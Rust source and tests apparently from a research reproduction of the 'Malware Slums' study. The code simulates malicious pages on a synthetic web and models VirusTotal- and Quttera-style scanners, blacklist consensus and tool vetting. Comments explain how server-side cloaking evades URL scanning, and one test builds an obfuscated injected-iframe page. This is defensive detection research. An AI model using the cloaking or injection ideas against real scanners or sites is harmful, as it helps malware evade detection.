    let per_page = profile.min_surf_secs as u64
        + 2
        + if profile.kind == ExchangeKind::ManualSurf { 6 } else { 0 };
    steps * per_page
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_exchange::{build_exchange, params::profile};
    use slum_websim::build::WebBuilder;

    fn crawl(name: &str, steps: u64, seed: u64) -> (RecordStore, CrawlStats) {
        let mut b = WebBuilder::new(seed);
        let p = profile(name).unwrap();
        let span = estimated_duration_secs(p, steps);
        let mut x = build_exchange(&mut b, p, 0.05, span);
        let web = b.finish();
        let mut store = RecordStore::new();
        let stats = crawl_exchange(
            &web,
            &mut x,
            &CrawlConfig { steps, seed, ..Default::default() },
            &mut store,
        );
        (store, stats)
    }

    #[test]
    fn auto_surf_crawl_logs_requested_steps() {
        let (store, stats) = crawl("Otohits", 300, 7);
        assert_eq!(stats.pages, 300);
        assert_eq!(store.len(), 300);
        assert_eq!(stats.captcha_failures, 0, "auto-surf has no CAPTCHAs");
        assert!(stats.credits_earned_millis > 0);
    }

    #[test]
    fn manual_surf_crawl_fails_some_captchas() {
        let (store, stats) = crawl("Cash N Hits", 200, 8);
        assert_eq!(store.len(), 200);
        assert!(stats.captcha_failures > 0, "4% failure rate over 200+ attempts");
    }

    #[test]
    fn records_carry_exchange_name_and_monotone_time() {
        let (store, _) = crawl("ManyHits", 50, 9);
        let mut last = 0;
        for r in store.records() {
            assert_eq!(r.exchange, "ManyHits");
            assert!(r.at >= last);
            last = r.at;
        }
    }

    #[test]
    fn crawl_is_deterministic() {
        let (a, _) = crawl("Hit2Hit", 80, 10);
        let (b, _) = crawl("Hit2Hit", 80, 10);
        let urls_a: Vec<String> = a.records().iter().map(|r| r.url.canonical()).collect();
        let urls_b: Vec<String> = b.records().iter().map(|r| r.url.canonical()).collect();
        assert_eq!(urls_a, urls_b);
    }

    #[test]
    fn self_referrals_present_in_crawl() {
        let (store, _) = crawl("Otohits", 400, 11);
        let p = profile("Otohits").unwrap();
        let selfs =
            store.records().iter().filter(|r| r.url.host() == p.host).count();
        // Otohits self-refers >50% of the time.
        assert!(
            selfs as f64 / store.len() as f64 > 0.4,
            "Otohits self-referrals: {selfs}/{}",
            store.len()
        );
    }

    #[test]
    fn crawl_metrics_mirror_stats() {
        let (store, stats) = crawl("Cash N Hits", 120, 13);
        let m = &stats.metrics;
        assert_eq!(m.count("crawl.pages"), stats.pages);
        assert_eq!(m.count("crawl.captcha_failures"), stats.captcha_failures);
        assert_eq!(m.count("crawl.load_failures"), stats.load_failures);
        // Every logged page plus every burned CAPTCHA is one surf step.
        assert_eq!(m.count("crawl.surf_steps"), stats.pages + stats.captcha_failures);
        assert_eq!(m.count("crawl.steps.Cash N Hits"), m.count("crawl.surf_steps"));
        let redirects: u64 =
            store.records().iter().map(|r| u64::from(r.redirect_hops)).sum();
        assert_eq!(m.count("crawl.redirects_followed"), redirects);
    }

    #[test]
    fn content_capture_can_be_disabled() {
        let mut b = WebBuilder::new(12);
        let p = profile("Otohits").unwrap();
        let mut x = build_exchange(&mut b, p, 0.05, 10_000);
        let web = b.finish();
        let mut store = RecordStore::new();
        crawl_exchange(
            &web,
            &mut x,
            &CrawlConfig { steps: 20, capture_content: false, ..Default::default() },
            &mut store,
        );
        assert!(store.records().iter().all(|r| r.content.is_none()));
    }
}
