//! Property tests for the detection substrate: total feature
//! extraction, deterministic engines, monotone blacklist consensus,
//! interner round-trips, and RCU/RwLock cache agreement.

use proptest::prelude::*;
use slum_detect::blacklist::BlacklistDb;
use slum_detect::engine::default_engines;
use slum_detect::hash::{chance, fraction};
use slum_detect::{Features, Interner, ShardedCache};
use slum_websim::Url;

proptest! {
    /// Feature extraction is total over arbitrary content.
    #[test]
    fn features_total_over_arbitrary_html(html in ".{0,400}") {
        let url = Url::http("sample.example.com", "/");
        let f = Features::from_content(&url, &html);
        // Structural invariant: clean implies no hidden iframes.
        if f.is_clean() {
            prop_assert!(f.hidden_iframes.is_empty());
        }
    }

    /// Engine decisions are deterministic per (engine, key, features).
    #[test]
    fn engines_deterministic(key in "[a-z0-9:/.?=-]{1,60}") {
        let features = Features {
            obfuscated_scripts: 1,
            js_redirect: true,
            generic_malware_marker: true,
            ..Default::default()
        };
        for engine in default_engines() {
            prop_assert_eq!(engine.scan(&key, &features), engine.scan(&key, &features));
        }
    }

    /// No engine fires on clean features, for any sample key.
    #[test]
    fn engines_quiet_on_clean(key in "[ -~]{1,60}") {
        let clean = Features::default();
        for engine in default_engines() {
            prop_assert_eq!(engine.scan(&key, &clean), None);
        }
    }

    /// Blacklist consensus is monotone: adding a domain to more lists
    /// never flips a positive verdict to negative.
    #[test]
    fn consensus_monotone(domain in "[a-z]{2,12}\\.(com|net|ru)") {
        let mut db = BlacklistDb::new();
        let before = db.check(&domain).hits.len();
        prop_assert_eq!(before, 0);
        db.add_malicious_domain(&domain);
        let verdict = db.check(&domain);
        prop_assert!(verdict.hits.len() >= 2, "guaranteed multi-list coverage");
        prop_assert!(verdict.is_blacklisted());
    }

    /// The deterministic hash fraction is stable and uniform-ish.
    #[test]
    fn hash_fraction_stable(key in ".{0,60}") {
        let a = fraction(&key);
        prop_assert!((0.0..1.0).contains(&a));
        prop_assert_eq!(a, fraction(&key));
        prop_assert_eq!(chance(&key, 1.0), true);
        prop_assert_eq!(chance(&key, 0.0), false);
    }

    /// Interner ids round-trip: every interned string resolves back to
    /// itself, duplicates share one id, and distinct strings get
    /// distinct ids.
    #[test]
    fn interner_syms_round_trip(strings in proptest::collection::vec(".{0,24}", 1..40)) {
        let pool = Interner::new();
        let syms: Vec<_> = strings.iter().map(|s| pool.sym(s)).collect();
        for (s, sym) in strings.iter().zip(&syms) {
            // Round-trip: id → string → same id.
            prop_assert_eq!(pool.resolve(*sym).as_deref(), Some(s.as_str()));
            prop_assert_eq!(pool.sym(s), *sym);
            // The Arc layer agrees with the id layer.
            let arc = pool.intern(s);
            prop_assert_eq!(&*arc, s.as_str());
        }
        for (i, a) in strings.iter().enumerate() {
            for (j, b) in strings.iter().enumerate() {
                prop_assert_eq!(syms[i] == syms[j], a == b);
            }
        }
        let distinct: std::collections::HashSet<&str> =
            strings.iter().map(String::as_str).collect();
        prop_assert_eq!(pool.len(), distinct.len());
    }

    /// The lock-free RCU read path of `ShardedCache` agrees with the
    /// `RwLock` write path under concurrent writers: readers never see
    /// a value other than the first-inserted one, no matter how the
    /// insert/republish schedule interleaves.
    #[test]
    fn sharded_cache_rcu_agrees_with_rwlock_under_writers(
        keys in proptest::collection::vec("[a-z]{1,6}", 1..60),
    ) {
        let cache = ShardedCache::new();
        std::thread::scope(|scope| {
            for _ in 0..3 {
                scope.spawn(|| {
                    for key in &keys {
                        // Writer path: first insert wins.
                        let inserted = cache.get_or_insert_with(key, || format!("v:{key}"));
                        assert_eq!(inserted, format!("v:{key}"));
                    }
                });
            }
            scope.spawn(|| {
                for key in &keys {
                    // RCU `get` may race ahead of the writers (None),
                    // but must never disagree once a value exists.
                    if let Some(seen) = cache.get(key) {
                        assert_eq!(seen, format!("v:{key}"));
                    }
                }
            });
        });
        // After the barrier, the snapshot path and the live path agree
        // on every key.
        for key in &keys {
            prop_assert_eq!(cache.get(key), Some(format!("v:{key}")));
        }
        let distinct: std::collections::HashSet<&str> =
            keys.iter().map(String::as_str).collect();
        prop_assert_eq!(cache.len(), distinct.len());
    }
}
