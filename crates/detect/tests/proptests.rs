//! Property tests for the detection substrate: total feature
//! extraction, deterministic engines, monotone blacklist consensus.

use proptest::prelude::*;
use slum_detect::blacklist::BlacklistDb;
use slum_detect::engine::default_engines;
use slum_detect::hash::{chance, fraction};
use slum_detect::Features;
use slum_websim::Url;

proptest! {
    /// Feature extraction is total over arbitrary content.
    #[test]
    fn features_total_over_arbitrary_html(html in ".{0,400}") {
        let url = Url::http("sample.example.com", "/");
        let f = Features::from_content(&url, &html);
        // Structural invariant: clean implies no hidden iframes.
        if f.is_clean() {
            prop_assert!(f.hidden_iframes.is_empty());
        }
    }

    /// Engine decisions are deterministic per (engine, key, features).
    #[test]
    fn engines_deterministic(key in "[a-z0-9:/.?=-]{1,60}") {
        let features = Features {
            obfuscated_scripts: 1,
            js_redirect: true,
            generic_malware_marker: true,
            ..Default::default()
        };
        for engine in default_engines() {
            prop_assert_eq!(engine.scan(&key, &features), engine.scan(&key, &features));
        }
    }

    /// No engine fires on clean features, for any sample key.
    #[test]
    fn engines_quiet_on_clean(key in "[ -~]{1,60}") {
        let clean = Features::default();
        for engine in default_engines() {
            prop_assert_eq!(engine.scan(&key, &clean), None);
        }
    }

    /// Blacklist consensus is monotone: adding a domain to more lists
    /// never flips a positive verdict to negative.
    #[test]
    fn consensus_monotone(domain in "[a-z]{2,12}\\.(com|net|ru)") {
        let mut db = BlacklistDb::new();
        let before = db.check(&domain).hits.len();
        prop_assert_eq!(before, 0);
        db.add_malicious_domain(&domain);
        let verdict = db.check(&domain);
        prop_assert!(verdict.hits.len() >= 2, "guaranteed multi-list coverage");
        prop_assert!(verdict.is_blacklisted());
    }

    /// The deterministic hash fraction is stable and uniform-ish.
    #[test]
    fn hash_fraction_stable(key in ".{0,60}") {
        let a = fraction(&key);
        prop_assert!((0.0..1.0).contains(&a));
        prop_assert_eq!(a, fraction(&key));
        prop_assert_eq!(chance(&key, 1.0), true);
        prop_assert_eq!(chance(&key, 0.0), false);
    }
}
