//! The VirusTotal-style multi-engine aggregator.
//!
//! The paper submitted URLs and downloaded page files through the
//! VirusTotal API and treated a URL as malicious when the aggregate
//! report said so. We reproduce the two scan paths:
//!
//! - **URL scan** ([`VirusTotal::scan_url`]): the service fetches the
//!   URL *itself* — with a scanner identity, so cloaked pages serve
//!   their benign variant and evade detection;
//! - **file scan** ([`VirusTotal::scan_content`]): the client uploads
//!   crawler-captured page content, defeating cloaking (§III fn. 1).

use slum_browser::Browser;
use slum_websim::{RequestContext, SyntheticWeb, Url};

use crate::engine::{default_engines, EngineModel};
use crate::features::Features;

/// Aggregated scan report.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VtReport {
    /// Engines that flagged the sample, with their labels.
    pub detections: Vec<(String, String)>,
    /// Total engines consulted.
    pub total_engines: usize,
    /// Positives threshold used for the verdict.
    pub threshold: usize,
}

impl VtReport {
    /// Number of engines that flagged the sample.
    pub fn positives(&self) -> usize {
        self.detections.len()
    }

    /// The aggregate verdict: malicious when positives ≥ threshold.
    pub fn is_malicious(&self) -> bool {
        self.positives() >= self.threshold
    }

    /// All labels reported (for categorization drill-down).
    pub fn labels(&self) -> Vec<&str> {
        self.detections.iter().map(|(_, l)| l.as_str()).collect()
    }
}

/// A VirusTotal-style scanning service bound to the synthetic web.
///
/// ```
/// use slum_detect::virustotal::VirusTotal;
/// use slum_websim::build::WebBuilder;
/// use slum_websim::{ContentCategory, JsAttack, Tld};
///
/// let mut builder = WebBuilder::new(1);
/// let site = builder.js_site(JsAttack::DynamicIframe, Tld::Com, ContentCategory::Business, false);
/// let web = builder.finish();
///
/// let vt = VirusTotal::new(&web);
/// let report = vt.scan_url(&site.url);
/// assert!(report.is_malicious());
/// assert!(report.positives() >= 2);
/// ```
pub struct VirusTotal<'w> {
    web: &'w SyntheticWeb,
    engines: Vec<EngineModel>,
    threshold: usize,
}

impl<'w> VirusTotal<'w> {
    /// Creates the service with the default engine battery and a
    /// 2-positives threshold (single-engine hits are treated as noise,
    /// mirroring common VT-consumer practice).
    pub fn new(web: &'w SyntheticWeb) -> Self {
        VirusTotal { web, engines: default_engines(), threshold: 2 }
    }

    /// Overrides the positives threshold.
    pub fn with_threshold(mut self, threshold: usize) -> Self {
        self.threshold = threshold.max(1);
        self
    }

    /// Number of engines in the battery.
    pub fn engine_count(&self) -> usize {
        self.engines.len()
    }

    /// Scans a URL: the service fetches it with a scanner identity
    /// (subject to cloaking) and runs the battery over the features.
    pub fn scan_url(&self, url: &Url) -> VtReport {
        let browser = Browser::new(self.web).with_context(RequestContext::scanner("virustotal"));
        let load = browser.load(url);
        let features = Features::from_load(&load);
        self.aggregate(&url.canonical(), &features)
    }

    /// Scans uploaded page content captured by a real browser — the
    /// cloaking-defeating path.
    pub fn scan_content(&self, url: &Url, content: &str) -> VtReport {
        let features = Features::from_content(url, content);
        // Key on the content too so cloaked/uncloaked variants of one
        // URL get independent engine decisions.
        let key = format!("{}#{:x}", url.canonical(), crate::hash::fnv1a(content.as_bytes()));
        self.aggregate(&key, &features)
    }

    /// Runs the battery over pre-extracted features.
    pub fn aggregate(&self, sample_key: &str, features: &Features) -> VtReport {
        let mut detections = Vec::new();
        for engine in &self.engines {
            if let Some(label) = engine.scan(sample_key, features) {
                detections.push((engine.name.to_string(), label.to_string()));
            }
        }
        VtReport { detections, total_engines: self.engines.len(), threshold: self.threshold }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_websim::build::{BenignOptions, MaliciousOptions, WebBuilder};
    use slum_websim::{ContentCategory, FalsePositiveKind, JsAttack, MaliceKind, Tld};

    #[test]
    fn benign_site_scans_clean() {
        let mut b = WebBuilder::new(70);
        let site = b.benign_site(BenignOptions::default());
        let web = b.finish();
        let vt = VirusTotal::new(&web);
        let report = vt.scan_url(&site.url);
        assert_eq!(report.positives(), 0);
        assert!(!report.is_malicious());
    }

    #[test]
    fn js_injection_site_flagged_with_scrinject_alias() {
        let mut b = WebBuilder::new(71);
        let spec = b.js_site(JsAttack::DynamicIframe, Tld::Com, ContentCategory::Business, false);
        let web = b.finish();
        let vt = VirusTotal::new(&web);
        let report = vt.scan_url(&spec.url);
        assert!(report.is_malicious(), "{report:?}");
        assert!(
            report.labels().iter().any(|l| l.contains("ScrInject") || l.contains("Iframe")),
            "{:?}",
            report.labels()
        );
    }

    #[test]
    fn flash_site_flagged_with_blacole_alias() {
        let mut b = WebBuilder::new(72);
        let spec = b.flash_site(Tld::Com, ContentCategory::Entertainment);
        let web = b.finish();
        let vt = VirusTotal::new(&web);
        let report = vt.scan_url(&spec.url);
        assert!(report.is_malicious());
        assert!(report.labels().iter().any(|l| l.contains("Blacole") || l.contains("Malscript")));
    }

    #[test]
    fn cloaked_site_evades_url_scan_but_not_content_scan() {
        let mut b = WebBuilder::new(73);
        let spec = b.malicious_site(MaliciousOptions {
            kind: Some(MaliceKind::Misc),
            cloaked: Some(true),
            ..Default::default()
        });
        let web = b.finish();
        let vt = VirusTotal::new(&web);

        let url_report = vt.scan_url(&spec.url);
        assert!(!url_report.is_malicious(), "cloak must defeat URL scanning");

        // A real browser captures the evil variant; uploading it wins.
        let browser = Browser::new(&web);
        let load = browser.load(&spec.url);
        let content = load.html.expect("page content");
        let content_report = vt.scan_content(&spec.url, &content);
        assert!(content_report.is_malicious(), "content upload must defeat cloaking");
    }

    #[test]
    fn ga_false_positive_reproduced() {
        let mut b = WebBuilder::new(74);
        let spec = b.false_positive_site(FalsePositiveKind::GoogleAnalytics);
        let web = b.finish();
        let vt = VirusTotal::new(&web);
        let report = vt.scan_url(&spec.url);
        // The paper's §V-E: scanning engines mislabel the GA bootstrap as
        // Faceliker. Our FP-prone engines reproduce that.
        assert!(report.labels().iter().any(|l| l.contains("Faceliker")), "{report:?}");
    }

    #[test]
    fn oauth_relay_false_positive_reproduced() {
        let mut b = WebBuilder::new(75);
        let spec = b.false_positive_site(FalsePositiveKind::GoogleOauthRelay);
        let web = b.finish();
        let vt = VirusTotal::new(&web);
        let report = vt.scan_url(&spec.url);
        // Structurally a hidden iframe: iframe-focused engines bite.
        assert!(report.positives() >= 1, "{report:?}");
    }

    #[test]
    fn threshold_controls_verdict() {
        let report = VtReport {
            detections: vec![("a".into(), "X".into())],
            total_engines: 12,
            threshold: 2,
        };
        assert!(!report.is_malicious());
        let report1 = VtReport { threshold: 1, ..report };
        assert!(report1.is_malicious());
    }

    #[test]
    fn shortened_url_scan_follows_redirect() {
        let mut b = WebBuilder::new(76);
        let spec = b.shortened_site(Tld::Com, ContentCategory::Business);
        let web = b.finish();
        let vt = VirusTotal::new(&web);
        // The short link resolves (peek, no hit recorded) to a
        // blacklisted-style page; engines flag on structure only, so the
        // verdict here may be weak — but scanning must not error and the
        // service must see *something*.
        let report = vt.scan_url(&spec.url);
        assert_eq!(report.total_engines, vt.engine_count());
    }
}
