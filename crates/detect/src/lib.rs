//! # slum-detect
//!
//! The malware-detection substrate of the `malware-slums` reproduction of
//! *Malware Slums* (DSN 2016).
//!
//! The paper scanned its 1M-URL corpus with VirusTotal and Quttera
//! (chosen after vetting eight candidate tools on a gold-standard
//! malware set) plus six public domain blacklists. None of those 2015
//! services can be replayed, so this crate implements the *methodology*
//! against the synthetic web:
//!
//! - [`features`] — the shared static+dynamic feature extractor (DOM
//!   inspection via `slum-html`, sandboxed execution via `slum-js`);
//! - [`engine`] — per-engine detection models carrying the threat-label
//!   aliases the paper reports (`Virus.ScrInject.JS`,
//!   `Trojan:JS/Redirector`, `BehavesLike.JS.ExploitBlacole`, ...);
//! - [`virustotal`] — a multi-engine aggregator (k-of-n positives);
//! - [`quttera`] — a heuristic scanner producing detailed findings
//!   reports, the paper's source for malware categorization;
//! - [`blacklist`] — six blacklist databases with the ≥2-list consensus
//!   rule the paper uses to suppress stale-entry false positives;
//! - [`tools`] + [`vetting`] — models of all eight candidate tools and
//!   the gold-standard vetting experiment (§III-B) that selected
//!   VirusTotal and Quttera.
//!
//! Scanner clients fetch through [`slum_websim::SyntheticWeb::fetch`]
//! with a scanner identity, so cloaked pages evade URL-based scanning
//! exactly as the paper observed — and uploading crawler-captured
//! content defeats the cloak (§III, footnote 1).

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod blacklist;
pub mod cache;
pub mod engine;
pub mod fault;
pub mod features;
pub mod hash;
pub mod intern;
pub mod js_modules;
pub mod quttera;
pub mod retry;
pub mod tools;
pub mod vetting;
pub mod virustotal;

pub use blacklist::{BlacklistDb, BlacklistVerdict};
pub use cache::{CacheStats, ShardedCache};
pub use engine::{EngineModel, FeatureClass};
pub use fault::{
    FaultKind, FaultPlan, FaultProfile, ScanError, ScanService, ServiceDecision,
    ServiceFaultProfile,
};
pub use features::Features;
pub use intern::{Interner, Sym};
pub use js_modules::JsModuleCache;
pub use quttera::{Quttera, QutteraFinding, QutteraReport};
pub use retry::{BreakerState, CircuitBreaker, Resolution, RetryPolicy};
pub use virustotal::{VirusTotal, VtReport};
