//! The gold-standard vetting experiment (§III-B).
//!
//! The study vetted eight candidate tools on a gold-standard set of
//! malware samples from prior work (Xing et al.'s ad-injection corpus)
//! and kept the tools that detected 100% of it. This module builds an
//! equivalent gold standard out of the synthetic web — clearly
//! detectable, non-cloaked ad-injection samples — runs all eight tools
//! over it, and reports per-tool accuracy.

use slum_websim::build::WebBuilder;
use slum_websim::{ContentCategory, JsAttack, SyntheticWeb, Tld, Url};

use crate::tools::{ToolBench, ToolId};

/// A gold-standard sample set plus the web hosting it.
pub struct GoldStandard {
    /// The hosting web (owns the samples).
    pub web: SyntheticWeb,
    /// Sample URLs (all genuinely malicious).
    pub samples: Vec<Url>,
}

/// Builds a gold standard of `n` ad-injection-style malware samples
/// (hidden-iframe and dynamic-injection pages, the Xing et al. shape),
/// uncloaked so URL-based tools get a fair shot.
pub fn build_gold_standard(seed: u64, n: usize) -> GoldStandard {
    let mut builder = WebBuilder::new(seed);
    let mut samples = Vec::with_capacity(n);
    for i in 0..n {
        let attack = if i % 2 == 0 { JsAttack::HiddenIframe } else { JsAttack::DynamicIframe };
        let spec = builder.js_site(attack, Tld::Com, ContentCategory::Advertisement, false);
        samples.push(spec.url);
    }
    GoldStandard { web: builder.finish(), samples }
}

/// One row of the vetting table.
#[derive(Debug, Clone, PartialEq)]
pub struct VettingRow {
    /// Tool under test.
    pub tool: ToolId,
    /// Samples detected.
    pub detected: usize,
    /// Sample count.
    pub total: usize,
}

impl VettingRow {
    /// Detection accuracy in `[0, 1]`.
    pub fn accuracy(&self) -> f64 {
        if self.total == 0 {
            0.0
        } else {
            self.detected as f64 / self.total as f64
        }
    }
}

/// Runs the vetting experiment: every tool over every gold sample.
pub fn run_vetting(gold: &GoldStandard) -> Vec<VettingRow> {
    let bench = ToolBench::new(&gold.web);
    ToolId::ALL
        .iter()
        .map(|&tool| {
            let detected =
                gold.samples.iter().filter(|url| bench.scan(tool, url)).count();
            VettingRow { tool, detected, total: gold.samples.len() }
        })
        .collect()
}

/// Applies the study's selection rule: keep tools with 100% accuracy.
pub fn select_tools(rows: &[VettingRow]) -> Vec<ToolId> {
    rows.iter().filter(|r| r.accuracy() >= 1.0).map(|r| r.tool).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn gold_standard_is_all_malicious() {
        let gold = build_gold_standard(2016, 20);
        assert_eq!(gold.samples.len(), 20);
        for url in &gold.samples {
            let page = gold.web.oracle_page(url).expect("sample installed");
            assert!(page.truth.is_malicious());
            assert!(!page.is_cloaked(), "gold samples must be scannable by URL");
        }
    }

    #[test]
    fn vetting_reproduces_paper_ranking() {
        let gold = build_gold_standard(2016, 40);
        let rows = run_vetting(&gold);
        let acc = |tool: ToolId| rows.iter().find(|r| r.tool == tool).unwrap().accuracy();

        assert_eq!(acc(ToolId::Wepawet), 0.0);
        assert_eq!(acc(ToolId::AvgThreatLab), 0.0);
        assert_eq!(acc(ToolId::VirusTotal), 1.0, "VT must ace the gold standard");
        assert_eq!(acc(ToolId::Quttera), 1.0, "Quttera must ace the gold standard");
        // Rate-modelled mid-field tools land near their paper numbers.
        assert!((acc(ToolId::SenderBase) - 0.10).abs() < 0.15);
        assert!((acc(ToolId::SiteCheck) - 0.40).abs() < 0.20);
        assert!((acc(ToolId::BrightCloud) - 0.60).abs() < 0.20);
        assert!((acc(ToolId::UrlQuery) - 0.70).abs() < 0.20);
        // Ordering: URLQuery beats BrightCloud beats SiteCheck beats SenderBase.
        assert!(acc(ToolId::UrlQuery) > acc(ToolId::SenderBase));
    }

    #[test]
    fn selection_keeps_exactly_vt_and_quttera() {
        let gold = build_gold_standard(2016, 40);
        let rows = run_vetting(&gold);
        let selected = select_tools(&rows);
        assert_eq!(selected, vec![ToolId::VirusTotal, ToolId::Quttera]);
    }

    #[test]
    fn vetting_is_deterministic() {
        let gold = build_gold_standard(99, 15);
        let a = run_vetting(&gold);
        let b = run_vetting(&gold);
        assert_eq!(a, b);
    }
}
