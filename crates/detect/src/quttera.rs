//! The Quttera-style heuristic scanner.
//!
//! The paper relies on Quttera for *detailed* reports: it "can detect
//! malicious hidden iframe elements, malicious re-directs, malvertising,
//! JavaScript exploits ... \[and\] obfuscated JavaScript" (§III-B), and
//! those per-finding details drive the malware categorization of
//! Table III. This module produces exactly that: a verdict plus a typed
//! finding list.

use slum_browser::Browser;
use slum_websim::{RequestContext, SyntheticWeb, Url};

use crate::features::Features;

/// A typed finding in a Quttera report.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum QutteraFinding {
    /// Hidden/invisible iframe element.
    HiddenIframe,
    /// Iframe injected at runtime by JavaScript.
    JsInjectedIframe,
    /// Obfuscated JavaScript (packer layers detected/unpacked).
    ObfuscatedJs,
    /// Deceptive executable download prompt.
    DeceptiveDownload,
    /// User-behaviour fingerprinting.
    Fingerprinting,
    /// Malicious Flash / ExternalInterface abuse.
    MaliciousFlash,
    /// Suspicious redirection away from the scanned URL.
    SuspiciousRedirect,
    /// Pop-up/malvertising behaviour.
    Malvertising,
    /// Generic malicious signature without structural detail.
    GenericMalware,
    /// Potentially suspicious but likely benign structure (the level
    /// Quttera assigns to things like off-screen OAuth relay iframes).
    PotentiallySuspicious,
}

/// Scan verdict levels (Quttera's public scale).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum QutteraVerdict {
    /// No findings.
    Clean,
    /// Only `PotentiallySuspicious` findings.
    PotentiallySuspicious,
    /// At least one malicious finding.
    Malicious,
}

/// A detailed scan report.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct QutteraReport {
    /// Scanned URL.
    pub url: Url,
    /// Findings, sorted and deduplicated.
    pub findings: Vec<QutteraFinding>,
    /// Aggregate verdict.
    pub verdict: QutteraVerdict,
}

impl QutteraReport {
    /// True when the verdict is `Malicious`.
    pub fn is_malicious(&self) -> bool {
        self.verdict == QutteraVerdict::Malicious
    }
}

/// The scanner.
///
/// ```
/// use slum_detect::quttera::{Quttera, QutteraFinding};
/// use slum_websim::build::WebBuilder;
/// use slum_websim::{ContentCategory, JsAttack, Tld};
///
/// let mut builder = WebBuilder::new(2);
/// let site = builder.js_site(JsAttack::HiddenIframe, Tld::Com, ContentCategory::Business, false);
/// let web = builder.finish();
///
/// let report = Quttera::new(&web).scan_url(&site.url);
/// assert!(report.is_malicious());
/// assert!(report.findings.contains(&QutteraFinding::HiddenIframe));
/// ```
pub struct Quttera<'w> {
    web: &'w SyntheticWeb,
}

impl<'w> Quttera<'w> {
    /// Creates a scanner bound to the synthetic web.
    pub fn new(web: &'w SyntheticWeb) -> Self {
        Quttera { web }
    }

    /// Scans a URL (service-side fetch — subject to cloaking).
    pub fn scan_url(&self, url: &Url) -> QutteraReport {
        let browser = Browser::new(self.web).with_context(RequestContext::scanner("quttera"));
        let load = browser.load(url);
        let mut features = Features::from_load(&load);
        // The scanner sees the server-side redirect chain it traversed.
        if load.was_redirected() {
            features.js_redirect = true;
        }
        self.report(url, &features)
    }

    /// Scans uploaded page content (cloaking-defeating path).
    pub fn scan_content(&self, url: &Url, content: &str) -> QutteraReport {
        let features = Features::from_content(url, content);
        self.report(url, &features)
    }

    /// Builds a report from extracted features.
    pub fn report(&self, url: &Url, f: &Features) -> QutteraReport {
        let mut findings = Vec::new();
        let fp_structure = f.oauth_relay_iframe;
        if !f.hidden_iframes.is_empty() {
            // An off-screen OAuth relay is structurally a hidden iframe;
            // Quttera grades it potentially-suspicious rather than
            // malicious (§V-E's drill-down conclusion).
            if fp_structure {
                findings.push(QutteraFinding::PotentiallySuspicious);
            } else {
                findings.push(QutteraFinding::HiddenIframe);
            }
        }
        if f.dynamic_iframe_injection {
            findings.push(QutteraFinding::JsInjectedIframe);
        }
        if f.obfuscated_scripts > 0 || f.eval_layers > 0 {
            findings.push(QutteraFinding::ObfuscatedJs);
        }
        if f.deceptive_download {
            findings.push(QutteraFinding::DeceptiveDownload);
        }
        if f.fingerprinting {
            findings.push(QutteraFinding::Fingerprinting);
        }
        if f.flash_clickjack || f.external_interface_calls > 0 {
            findings.push(QutteraFinding::MaliciousFlash);
        }
        if f.js_redirect {
            findings.push(QutteraFinding::SuspiciousRedirect);
        }
        if f.popups > 0 {
            findings.push(QutteraFinding::Malvertising);
        }
        if f.generic_malware_marker {
            findings.push(QutteraFinding::GenericMalware);
        }
        findings.sort();
        findings.dedup();
        let verdict = if findings.is_empty() {
            QutteraVerdict::Clean
        } else if findings.iter().all(|f| *f == QutteraFinding::PotentiallySuspicious) {
            QutteraVerdict::PotentiallySuspicious
        } else {
            QutteraVerdict::Malicious
        };
        QutteraReport { url: url.clone(), findings, verdict }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_websim::build::{BenignOptions, WebBuilder};
    use slum_websim::{ContentCategory, FalsePositiveKind, JsAttack, Tld};

    #[test]
    fn benign_is_clean() {
        let mut b = WebBuilder::new(80);
        let site = b.benign_site(BenignOptions::default());
        let web = b.finish();
        let report = Quttera::new(&web).scan_url(&site.url);
        assert_eq!(report.verdict, QutteraVerdict::Clean);
        assert!(report.findings.is_empty());
    }

    #[test]
    fn hidden_iframe_reported() {
        let mut b = WebBuilder::new(81);
        let spec = b.js_site(JsAttack::HiddenIframe, Tld::Com, ContentCategory::Business, false);
        let web = b.finish();
        let report = Quttera::new(&web).scan_url(&spec.url);
        assert!(report.is_malicious());
        assert!(report.findings.contains(&QutteraFinding::HiddenIframe));
    }

    #[test]
    fn obfuscated_injection_reports_both_findings() {
        let b = WebBuilder::new(82);
        // Force obfuscation by building the page directly.
        let target = slum_websim::Url::http("evil.example.net", "/x");
        let html = slum_websim::payload::js_injected_iframe_page("s.example.com", &target, 2);
        let url = slum_websim::Url::http("s.example.com", "/");
        let web = b.finish();
        let report = Quttera::new(&web).scan_content(&url, &html);
        assert!(report.is_malicious());
        assert!(report.findings.contains(&QutteraFinding::JsInjectedIframe));
        assert!(report.findings.contains(&QutteraFinding::ObfuscatedJs));
    }

    #[test]
    fn flash_reported_with_malvertising() {
        let mut b = WebBuilder::new(83);
        let spec = b.flash_site(Tld::Com, ContentCategory::Entertainment);
        let web = b.finish();
        let report = Quttera::new(&web).scan_url(&spec.url);
        assert!(report.findings.contains(&QutteraFinding::MaliciousFlash));
        assert!(report.findings.contains(&QutteraFinding::Malvertising));
    }

    #[test]
    fn redirect_chain_reported() {
        let mut b = WebBuilder::new(84);
        let spec = b.redirect_chain_site(3, Tld::Com, ContentCategory::Business);
        let web = b.finish();
        let report = Quttera::new(&web).scan_url(&spec.url);
        assert!(report.findings.contains(&QutteraFinding::SuspiciousRedirect));
    }

    #[test]
    fn oauth_relay_grades_potentially_suspicious_not_malicious() {
        let mut b = WebBuilder::new(85);
        let spec = b.false_positive_site(FalsePositiveKind::GoogleOauthRelay);
        let web = b.finish();
        let report = Quttera::new(&web).scan_url(&spec.url);
        assert_eq!(report.verdict, QutteraVerdict::PotentiallySuspicious);
        assert!(!report.is_malicious());
    }

    #[test]
    fn findings_are_deduplicated_and_sorted() {
        let mut b = WebBuilder::new(86);
        let web = {
            let _ = &mut b;
            b.finish()
        };
        let q = Quttera::new(&web);
        let mut f = Features::default();
        f.hidden_iframes.push((slum_html::attr::HiddenReason::PixelDimensions, "a".into()));
        f.hidden_iframes.push((slum_html::attr::HiddenReason::CssHidden, "b".into()));
        f.dynamic_iframe_injection = true;
